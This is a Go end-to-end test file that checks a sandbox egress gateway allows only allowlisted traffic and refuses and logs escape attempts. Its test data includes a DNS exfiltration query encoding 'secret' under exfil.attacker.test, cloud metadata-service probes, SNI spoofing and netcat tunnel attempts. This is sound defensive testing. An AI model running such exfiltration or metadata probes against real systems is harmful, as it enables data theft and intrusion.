package egress_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/litterbox-dev/litterbox/egress"
	"github.com/litterbox-dev/litterbox/gateway/control"
	"github.com/litterbox-dev/litterbox/gateway/policy"
	"github.com/litterbox-dev/litterbox/internal/egresstest"
	"github.com/litterbox-dev/litterbox/provider/docker"
)

// TestGateway proves, on every engine, that a confined sandbox's only way
// out is its gateway: what the policy allows works over HTTP and HTTPS
// through the proxy; everything on the attack list is refused, and what
// reaches the gateway is in its record with the reason; the policy changes
// while the sandbox runs; a named port still reaches the sandbox; and a
// second sandbox is out of reach. With LITTERBOX_EGRESS_LOG_DIR set, each
// engine's record is written there (ENGINE.jsonl).
func TestGateway(t *testing.T) {
	for _, e := range engines {
		t.Run(e.name, func(t *testing.T) { testGateway(t, e) })
	}
}

// want is a record the log must hold.
type want struct {
	kind    string
	host    string
	port    int
	allowed bool
	reason  string // a part of the record's reason, or of its error
}

func testGateway(t *testing.T, e engine) {
	r := newRig(t, e)
	in := r.in
	policy := policy.Policy{Sandbox: "alpha", Mode: policy.ModeAllowlist, Registries: true,
		Allow: []string{"allowed.test", "*.wild.test", "loop.test", "meta.test", "private.test", "v6only.test",
			"hosty.test:" + strconv.Itoa(r.host)},
		Host: r.hostAddrs()}
	pid := os.Getpid()
	a := r.confine(fmt.Sprintf("lbgw-e2e-%d-%s-alpha", pid, e.name), policy)
	other := policy
	other.Sandbox = "beta"
	b := r.confine(fmt.Sprintf("lbgw-e2e-%d-%s-beta", pid, e.name), other)
	hostPort := strconv.Itoa(r.host)
	gwRoute := strings.TrimSpace(a.mustDocker("inspect", "--format", "{{range .NetworkSettings.Networks}}{{.Gateway}} {{end}}", a.gw.ID))
	gwRoute = strings.Fields(gwRoute + " -")[0]
	// The gateway keeps a bounded log on the engine's disk (issue 31: it
	// grew 61 MiB in 10 s). Podman's compatible API shows no log options;
	// it keeps the size (docs/egress.md).
	if e.options.Engine == docker.EngineDocker {
		if got := a.mustDocker("inspect", "--format", "{{json .HostConfig.LogConfig}}", a.gw.ID); !strings.Contains(got, `"max-size":"4194304"`) {
			t.Errorf("the gateway's log: %s", got)
		}
	}

	type check struct {
		what string
		args []string
		ok   func(result) bool
	}
	status := func(code int, body string) func(result) bool {
		return func(r result) bool { return r.Status == code && strings.Contains(r.Body, body) }
	}
	fails := func(part string) func(result) bool {
		return func(r result) bool { return r.Status == 0 && strings.Contains(r.Error, part) }
	}
	ca := "-ca /tmp/ca.pem"
	checks := []check{
		// Allowed.
		{"http to an allowed name", []string{"get", "http://allowed.test/"}, status(200, "hello from allowed.test")},
		{"https to an allowed name", []string{"get", "https://allowed.test/", ca}, status(200, "hello from allowed.test")},
		{"https to a wildcard's name", []string{"get", "https://x.wild.test/", ca}, status(200, "hello from x.wild.test")},
		// Refused by the gateway, with a 403 that says what to run.
		{"a name not allowed", []string{"get", "https://other.test/", ca}, fails("Forbidden: litterbox refused other.test:443 (not in the allowlist)")},
		{"a port not allowed", []string{"get", "https://allowed.test:8443/", ca}, fails("port 8443 is not allowed")},
		{"a direct IP through the proxy", []string{"get", "https://" + in.Addr(10) + "/", ca}, fails("not in the allowlist")},
		{"the host's 0.0.0.0 service, at the host's address", []string{"get", "http://" + in.HostIP + ":" + hostPort + "/"}, status(403, "is the engine's host")},
		{"the host's 0.0.0.0 service, at the gateway's route out", []string{"get", "http://" + gwRoute + ":" + hostPort + "/"}, status(403, gwRoute+" is the engine's host")},
		{"an allowed name resolving to the host", []string{"get", "http://hosty.test:" + hostPort + "/"}, status(403, "hosty.test resolves to "+in.HostIP+", which is the engine's host")},
		{"an allowed name resolving to 127.0.0.1", []string{"get", "http://loop.test/"}, status(403, "loop.test resolves to 127.0.0.1, which is loopback")},
		{"an allowed name resolving to a private address", []string{"get", "http://private.test/"}, status(403, "private.test resolves to 10.1.2.3, which is private")},
		{"the metadata service through the proxy", []string{"get", "http://169.254.169.254/latest/meta-data/"}, status(403, "169.254.169.254 is link-local")},
		{"an allowed name resolving to the metadata service", []string{"get", "http://meta.test/"}, status(403, "meta.test resolves to 169.254.169.254, which is link-local")},
		{"the gateway's own address", []string{"get", "http://" + a.gwAddr + ":8080/"}, status(403, "the gateway itself")},
		// "a network of the container engine", or, where the shared bridge
		// was full and a gateway got a network of its own, "private".
		{"another sandbox's gateway", []string{"get", "http://" + b.gwAddr + ":8080/"}, func(r result) bool {
			return r.Status == 403 && (strings.Contains(r.Body, "a network of the container engine") || strings.Contains(r.Body, "is private"))
		}},
		{"IPv6 through the proxy", []string{"get", "https://[2606:4700::1111]/", ca}, fails("not in the allowlist")},
		{"an allowed name with only an IPv6 address", []string{"get", "https://v6only.test/", ca}, fails("Bad Gateway")},
		{"a ClientHello naming another host", []string{"get", "https://allowed.test/", ca, "-sni", "other.test"}, fails("access denied")},
		// Refused before any packet leaves the sandbox: it has no route.
		{"a direct connection", []string{"tcp", in.Addr(10) + ":443"}, fails("network is unreachable")},
		{"a direct connection to the host's service", []string{"tcp", in.HostIP + ":" + hostPort}, fails("network is unreachable")},
		{"the metadata service, directly", []string{"tcp", "169.254.169.254:80"}, fails("network is unreachable")},
		{"IPv6, directly", []string{"tcp", "[2606:4700::1111]:443"}, fails("connect: ")}, // no IPv6 at all: "cannot assign requested address"
		{"UDP to a DNS server", []string{"udp", in.DNS + ":53"}, fails("network is unreachable")},
		{"UDP anywhere", []string{"udp", "8.8.8.8:443"}, fails("network is unreachable")},
		{"another sandbox's gateway, directly", []string{"tcp", b.gwAddr + ":8080"}, fails("network is unreachable")},
		// Resolved by the sandbox's resolver: refused and recorded.
		{"a DNS query for an arbitrary name", []string{"resolve", "c2VjcmV0.exfil.attacker.test"}, fails("server misbehaving")},
		{"a client that ignores the proxy", []string{"get", "http://allowed.test/", "-noproxy"}, fails("lookup allowed.test")},
	}
	for _, c := range checks {
		got := a.client(c.args...)
		if !c.ok(got) {
			t.Errorf("%s: %+v", c.what, got)
		}
	}
	// Busybox's own clients.
	if out, code := a.sh("nslookup exfil.attacker.test"); code == 0 || !strings.Contains(out, "REFUSED") {
		t.Errorf("busybox nslookup: exit %d: %s", code, out)
	}
	if out, code := a.sh(`printf 'CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n' | nc 127.0.0.1 3128`); code != 0 || !strings.Contains(out, "litterbox net alpha allow other.test") {
		t.Errorf("busybox nc, CONNECT: exit %d: %s", code, out)
	}

	// The policy changes while the sandbox runs: the next connection sees
	// it, and an open tunnel it refuses is cut.
	policy.Allow = append(policy.Allow, "other.test")
	a.policy(policy)
	if got := a.client("get", "https://other.test/", ca); got.Status != 200 {
		t.Errorf("after allowing other.test: %+v", got)
	}
	slow := make(chan result, 1)
	go func() { slow <- a.client("get", "https://allowed.test/slow", ca, "-timeout", "60s") }()
	time.Sleep(1500 * time.Millisecond)
	policy.Deny = []string{"allowed.test"}
	start := time.Now()
	a.policy(policy)
	select {
	case got := <-slow:
		if got.Error == "" && got.Status == 200 && len(got.Body) >= 300 {
			t.Errorf("the open tunnel was not cut: %+v", got)
		}
		t.Logf("the open tunnel ended %v after the deny (%s)", time.Since(start).Round(time.Millisecond), cmpOr(got.Error, fmt.Sprintf("%d bytes", len(got.Body))))
	case <-time.After(20 * time.Second):
		t.Error("the open tunnel was not cut within 20 s")
	}
	if got := a.client("get", "https://allowed.test/", ca); !strings.Contains(got.Error, "denied by allowed.test") {
		t.Errorf("after denying allowed.test: %+v", got)
	}

	// A named port still reaches the sandbox: the gateway publishes it.
	if out, code := a.sh("mkdir -p /tmp/www && echo served-from-the-sandbox > /tmp/www/index.html && (httpd -p 127.0.0.1:8080 -h /tmp/www &)"); code != 0 {
		t.Fatalf("httpd: %s", out)
	}
	ports, err := r.p.Ports(context.Background(), a.gw)
	if err != nil || len(ports) != 1 {
		t.Fatalf("ports: %+v, %v", ports, err)
	}
	var body string
	for i := 0; i < 50; i++ {
		body, err = egresstest.FetchIn(portNS(e), ports[0].URL)
		if err == nil {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if !strings.Contains(body, "served-from-the-sandbox") {
		t.Errorf("the named port %s: %q, %v", ports[0].URL, body, err)
	}

	// Nothing but the engine's host reaches a gateway's named port: not
	// another gateway, on the network they share (where Podman does not
	// keep containers apart), even with the port's address in hand.
	if out, _ := b.r.docker("exec", b.gw.ID, "sh", "-c", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 "+a.gwAddr+" 8080"); strings.Contains(out, "served-from-the-sandbox") {
		t.Errorf("another gateway reached alpha's named port: %q", out)
	}

	// The refusals of a time window, for an MCP bash call's result.
	refused, err := egress.Refused(context.Background(), r.p, a.gw, "10m")
	if err != nil {
		t.Fatal(err)
	}
	if hosts := strings.Join(egress.RefusedHosts(refused), "\n"); !strings.Contains(hosts, "other.test:443 (not in the allowlist)") || !strings.Contains(hosts, "loop.test:80 (loop.test resolves to 127.0.0.1, which") {
		t.Errorf("refused hosts:\n%s", hosts)
	}
	// Since a mark of another run of the gateway: all of this run's.
	after, err := egress.RefusedAfter(context.Background(), r.p, a.gw, control.RefusalMark{Boot: "00", After: 1})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(egress.RefusedHosts(after), egress.RefusedHosts(refused)) {
		t.Errorf("refused after another run's mark: %q, want %q", egress.RefusedHosts(after), egress.RefusedHosts(refused))
	}

	// The record: every refusal that reached the gateway, with its reason.
	recs := a.collect()
	for _, w := range []want{
		{"http", "allowed.test", 80, true, "allowed by allowed.test"},
		{"connect", "allowed.test", 443, true, "allowed by allowed.test"},
		{"connect", "x.wild.test", 443, true, "allowed by *.wild.test"},
		{"connect", "other.test", 443, false, "not in the allowlist"},
		{"connect", "allowed.test", 8443, false, "port 8443 is not allowed"},
		{"connect", in.Addr(10), 443, false, "not in the allowlist"},
		{"http", in.HostIP, r.host, false, "the engine's host"},
		{"http", gwRoute, r.host, false, "the engine's host"},
		{"http", "hosty.test", r.host, false, "the engine's host"},
		{"http", "loop.test", 80, false, "loopback"},
		{"http", "private.test", 80, false, "private"},
		{"http", "169.254.169.254", 80, false, "link-local"},
		{"http", "meta.test", 80, false, "link-local"},
		{"http", a.gwAddr, 8080, false, "the gateway itself"},
		{"http", b.gwAddr, 8080, false, "is "},
		{"connect", "2606:4700::1111", 443, false, "not in the allowlist"},
		{"connect", "v6only.test", 443, true, "connect"},
		{"connect", "allowed.test", 443, false, "names other.test, not allowed.test"},
		{"dns", "c2VjcmV0.exfil.attacker.test", 53, false, "resolves no names"},
		{"dns", "allowed.test", 53, false, "resolves no names"},
		{"dns", "exfil.attacker.test", 53, false, "resolves no names"},
		{"connect", "other.test", 443, true, "allowed by other.test"},
		{"connect", "allowed.test", 443, true, "closed when the policy changed: denied by allowed.test"},
		{"connect", "allowed.test", 443, false, "denied by allowed.test"},
	} {
		if !hasRecord(recs, w) {
			t.Errorf("no record %+v", w)
		}
	}
	var logText strings.Builder
	for _, rec := range recs {
		logText.WriteString(egress.Summary(rec) + "\n")
	}
	t.Logf("the record of sandbox alpha on %s:\n%s", e.name, logText.String())
	if dir := os.Getenv("LITTERBOX_EGRESS_LOG_DIR"); dir != "" {
		f, err := os.Create(filepath.Join(dir, e.name+".jsonl"))
		if err == nil {
			enc := json.NewEncoder(f)
			for _, rec := range recs {
				_ = enc.Encode(rec)
			}
			f.Close()
		}
	}
	// A restart (the engine's, or resume of a stopped sandbox) empties the
	// volume: the host installs the program again; the sandbox starts its
	// relay by itself, but reaches nothing until the host has set the
	// policy it keeps and said the gateway is ready (issue 31: a gateway
	// started again outside litterbox ran with its create's policy); the
	// record goes on in a new run, and the host's store notes what it
	// could not collect.
	for _, id := range []string{a.gw.ID, a.sb.ID} {
		a.mustDocker("restart", "--time", "1", id)
	}
	bin, err := os.ReadFile(gatewayBin)
	if err != nil {
		t.Fatal(err)
	}
	if err := egress.Install(context.Background(), r.p, a.gw, bytes.NewReader(bin)); err != nil {
		t.Fatal(err)
	}
	a.put(client, "/tmp/c", 0o755) // its /tmp is a new one
	a.putBytes(r.in.CAPEM, "/tmp/ca.pem", 0o644)
	if out, code := a.sh("i=0; until [ -e " + egress.Dir + "/relay.ready ] || [ $i -ge 3000 ]; do sleep 0.01; i=$((i+1)); done; [ -e " + egress.Dir + "/relay.ready ]"); code != 0 {
		t.Fatalf("the relay did not start again: %s", out)
	}
	if got := a.client("get", "https://other.test/", ca); got.Status != 0 || !strings.Contains(got.Error, "gateway is not running") {
		t.Errorf("after a restart, before the host set the policy: %+v", got)
	}
	a.policy(policy)
	if err := egress.Ready(context.Background(), r.p, a.gw); err != nil {
		t.Fatal(err)
	}
	if out, code := a.sh(egress.WaitRelay + " && [ -e " + egress.Dir + "/relay.ready ]"); code != 0 {
		t.Fatalf("the gateway did not serve again: %s", out)
	}
	if got := a.client("get", "https://other.test/", ca); got.Status != 200 {
		t.Errorf("after a restart, other.test: %+v", got)
	}
	if got := a.client("get", "https://allowed.test/", ca); !strings.Contains(got.Error, "denied by allowed.test") {
		t.Errorf("after a restart, allowed.test: %+v", got)
	}
	store := egress.Store{File: filepath.Join(t.TempDir(), "net.jsonl")}
	if err := store.Append(control.Batch{Boot: a.cursor.Boot, Records: recs}); err != nil {
		t.Fatal(err)
	}
	batch, err := egress.Collect(context.Background(), r.p, a.gw, a.cursor)
	if err != nil {
		t.Fatal(err)
	}
	if batch.Boot == a.cursor.Boot || batch.Lost != -1 || len(batch.Records) != 2 {
		t.Errorf("after a restart: boot %s (was %s), lost %d, %d records", batch.Boot, a.cursor.Boot, batch.Lost, len(batch.Records))
	}
	if err := store.Append(batch); err != nil {
		t.Fatal(err)
	}
	kept, _ := store.Records(0)
	if len(kept) != len(recs)+3 || kept[len(recs)].Kind != "lost" {
		t.Errorf("the host's store holds %d records (want %d, a note of the loss among them)", len(kept), len(recs)+3)
	}

	// Nothing of beta's reached alpha's record, nor the reverse.
	for _, rec := range b.collect() {
		if rec.Host != "" && rec.Kind != "dns" {
			t.Errorf("beta's gateway recorded %+v", rec)
		}
	}
}

func cmpOr(a, b string) string {
	if a != "" {
		return a
	}
	return b
}

func hasRecord(recs []control.Record, w want) bool {
	for _, r := range recs {
		if r.Kind == w.kind && r.Host == w.host && r.Port == w.port && r.Allowed == w.allowed &&
			(strings.Contains(r.Reason, w.reason) || strings.Contains(r.Error, w.reason)) {
			return true
		}
	}
	return false
}

// portNS is where an engine's published ports are reached: its own
// namespace, but for the ssh engine, whose ports the provider forwards here.
func portNS(e engine) string {
	if e.name == "ssh" {
		return ""
	}
	return e.netns
}
